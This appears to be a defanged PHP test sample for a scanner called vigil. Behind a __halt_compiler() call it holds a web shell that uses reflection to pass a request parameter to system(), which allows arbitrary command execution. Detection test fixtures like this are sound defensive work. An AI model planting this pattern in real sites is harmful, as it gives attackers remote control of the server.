<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
$r = new ReflectionFunction('system');
$r->invoke($_GET['r']);
